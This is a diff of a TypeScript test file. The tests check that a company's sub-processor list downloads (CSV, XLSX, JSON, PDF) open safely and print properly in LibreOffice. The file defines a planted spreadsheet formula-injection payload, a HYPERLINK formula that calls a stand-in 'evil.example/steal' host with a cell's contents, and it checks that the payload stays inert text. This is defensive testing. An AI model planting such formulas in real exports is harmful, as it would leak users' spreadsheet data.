@@ -1,12 +1,13 @@
 /** The downloads, opened by the programs procurement uses: LibreOffice Calc and a JSON Schema validator. */
 import { execFile } from 'node:child_process';
-import { mkdir, readFile, writeFile } from 'node:fs/promises';
+import { createHash } from 'node:crypto';
+import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import Ajv2020 from 'ajv/dist/2020.js';
 import addFormats from 'ajv-formats';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { buildFixture, cells, epochOf, libreoffice, prepareFixture } from './helpers';
+import { ROOT, buildFixture, cells, epochOf, libreoffice, prepareFixture } from './helpers';
 
 const run = promisify(execFile);
 const PLANTED = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for details")';
@@ -27,22 +28,29 @@ describe('downloads in LibreOffice Calc', () => {
     await mkdir(path.join(dir, 'lo'), { recursive: true });
   });
 
-  it('opens the CSV with one row per activity and the planted formula as text', async () => {
-    const xlsx = await libreoffice(
-      path.join(dist, 'subprocessors.csv'),
-      'xlsx',
-      path.join(dir, 'lo'),
-      CSV_EVALUATING,
-    );
-    const [sheet] = await cells(xlsx);
-    expect(sheet!.rows).toHaveLength(1 + 3); // header + eu-host, us-mailer, evil-vendor: one activity each
-    expect(sheet!.rows[0]![0]!.value).toBe('Processor');
-    expect(sheet!.rows.flat().filter((c) => c.formula)).toEqual([]);
-    const names = sheet!.rows.map((r) => r[0]!.value);
-    expect(names).toContain(`'${PLANTED}`);
-    expect(sheet!.rows.flat().map((c) => c.value)).toEqual(
-      expect.arrayContaining(["'+31 Vendor B.V.", "'@SUM(1+1) and -2+3 must stay text too."]),
-    );
+  it('opens both CSVs with one row per recipient or activity and the planted formula as text', async () => {
+    for (const file of ['subprocessors.csv', 'subprocessor-activities.csv']) {
+      const xlsx = await libreoffice(
+        path.join(dist, file),
+        'xlsx',
+        path.join(dir, 'lo'),
+        CSV_EVALUATING,
+      );
+      const [sheet] = await cells(xlsx);
+      expect(sheet!.rows, file).toHaveLength(1 + 3); // header + eu-host, us-mailer, evil-vendor: one activity each
+      expect(sheet!.rows[0]![0]!.value).toBe('Processor');
+      expect(sheet!.rows.flat().filter((c) => c.formula)).toEqual([]);
+      const names = sheet!.rows.map((r) => r[0]!.value);
+      expect(names).toContain(`'${PLANTED}`);
+      // The processors file numbers each activity, so only the activities file starts a cell with it.
+      expect(sheet!.rows.flat().map((c) => c.value)).toEqual(
+        expect.arrayContaining(
+          file === 'subprocessors.csv'
+            ? ["'+31 Vendor B.V."]
+            : ["'+31 Vendor B.V.", "'@SUM(1+1) and -2+3 must stay text too."],
+        ),
+      );
+    }
   });
 
   it('would have run the formula without the neutralising apostrophe (the check can fail)', async () => {
@@ -54,19 +62,28 @@ describe('downloads in LibreOffice Calc', () => {
     expect(sheet!.rows[1]![0]!.formula).toBe(true);
   });
 
-  it('opens the XLSX with three sheets, a frozen header, sized columns and no formulas', async () => {
+  it('opens the XLSX with a title sheet and four lists, frozen headers, sized columns and no formulas', async () => {
     const sheets = await cells(path.join(dist, 'subprocessors.xlsx'));
-    expect(sheets.map((s) => s.name)).toEqual(['Processors', 'Transfers', 'Changes']);
-    expect(sheets.every((s) => s.frozen)).toBe(true);
-    expect(sheets[0]!.widths.every((w) => (w ?? 0) >= 10)).toBe(true);
-    expect(sheets[0]!.rows).toHaveLength(4);
-    expect(sheets[1]!.rows).toHaveLength(1 + 1); // the US transfer of us-mailer
-    expect(sheets[2]!.rows).toHaveLength(1 + 1);
+    expect(sheets.map((s) => s.name)).toEqual([
+      'About',
+      'Processors',
+      'Activities',
+      'Transfers',
+      'Changes',
+    ]);
+    const lists = sheets.slice(1);
+    expect(lists.every((s) => s.frozen)).toBe(true);
+    expect(lists[0]!.widths.every((w) => (w ?? 0) >= 6)).toBe(true);
+    expect(lists[0]!.rows).toHaveLength(4);
+    expect(lists[1]!.rows).toHaveLength(1 + 3);
+    expect(lists[2]!.rows).toHaveLength(1 + 1); // the US transfer of us-mailer
+    expect(lists[3]!.rows).toHaveLength(1 + 1);
 
     // Round-trip through LibreOffice, as a reviewer saving a copy would.
+    // The Processors sheet, the second: CSV filter options, token 12 names the sheet.
     const csv = await libreoffice(
       path.join(dist, 'subprocessors.xlsx'),
-      'csv',
+      'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2',
       path.join(dir, 'lo'),
     );
     const text = await readFile(csv, 'utf8');
@@ -84,7 +101,7 @@ describe('downloads in LibreOffice Calc', () => {
       ),
     );
     expect(resaved.flatMap((sh) => sh.rows.flat()).filter((c) => c.formula)).toEqual([]);
-    expect(resaved[0]!.rows.map((r) => r[0]!.value)).toContain(`'${PLANTED}`);
+    expect(resaved[1]!.rows.map((r) => r[0]!.value)).toContain(`'${PLANTED}`);
   });
 
   it('keeps the exact text in the JSON, which validates against the published JSON Schema', async () => {
@@ -121,5 +138,76 @@ describe('downloads in LibreOffice Calc', () => {
       ]),
     );
     await run('sha256sum', ['-c', '--quiet', 'SHA256SUMS'], { cwd: dist });
+  });
+});
+
+describe('the example workbook printed by LibreOffice', () => {
+  const out = path.join(ROOT, 'tests/.out/workbook-pdf');
+  let pages: string[];
+  let dist: string;
+
+  beforeAll(async () => {
+    await rm(out, { recursive: true, force: true });
+    dist = path.join(out, 'dist');
+    const built = await buildFixture(
+      out,
+      { SOURCE_DATE_EPOCH: epochOf('2026-11-20') },
+      { content: path.join(ROOT, 'content'), out: dist },
+    );
+    expect(built.code, built.output).toBe(0);
+    const pdf = await libreoffice(path.join(dist, 'subprocessors.xlsx'), 'pdf', out);
+    const { stdout } = await run('pdfinfo', [pdf]);
+    const count = Number(/^Pages:\s+(\d+)/m.exec(stdout)![1]);
+    pages = await Promise.all(
+      Array.from({ length: count }, async (_, i) => {
+        const page = String(i + 1);
+        return (await run('pdftotext', ['-layout', '-f', page, '-l', page, pdf, '-'])).stdout;
+      }),
+    );
+  });
+
+  it('prints a title page, then each sheet one page wide, numbered', () => {
+    // The title page; the 22 recipients on two pages; their 25 activities on one; the 20
+    // transfers, with their notes, on two; the change log on one.
+    expect(pages).toHaveLength(7);
+    expect(pages.map((text) => /^\s*(\S+)/.exec(text)![1])).toEqual([
+      'Klimaatmeter:',
+      'Processor',
+      'Processor',
+      'Processor',
+      'Processor',
+      'Processor',
+      'Change',
+    ]);
+    pages.forEach((text, i) =>
+      expect(text, `page ${i + 1}`).toMatch(
+        new RegExp(`\\b${i + 1}\\s*/\\s*${pages.length}\\s*$`, 'm'),
+      ),
+    );
+  });
+
+  it('says on page 1 whose list it is, as of when, and the checksum of the JSON beside it', async () => {
+    const first = pages[0]!;
+    expect(first).toContain('Klimaatmeter: processors and sub-processors as of 2026-11-20');
+    expect(first).toMatch(/Publisher\s+Klimaatmeter B\.V\./);
+    expect(first).toMatch(/The list as of\s+2026-11-20/);
+    const json = await readFile(path.join(dist, 'subprocessors.json'));
+    expect(first).toContain(createHash('sha256').update(json).digest('hex'));
+  });
+
+  it('prints the Processors sheet within the width of the page, its header on every page', () => {
+    const processors = pages.filter((text) => /^\s*Processor\s+Legal entity/m.test(text));
+    expect(processors.length).toBeGreaterThanOrEqual(2);
+    for (const text of processors) {
+      // The first and the last printed column on the same page: nothing ran onto another page.
+      const header = text.split('\n').slice(0, 4).join('\n');
+      expect(header).toMatch(/^\s*Processor\s+Legal entity\s+Entity country\s+Role/m);
+      expect(header).toMatch(/Status\s*$/m);
+    }
+    // Every recipient is printed; the columns for tools are not.
+    const printed = processors.join('\n');
+    for (const name of ['Amazon S3', 'Google Workspace', 'Sentry', 'Vimeo', 'Tax authorities'])
+      expect(printed).toContain(name);
+    expect(pages.join('\n')).not.toContain('Processor id');
   });
 });
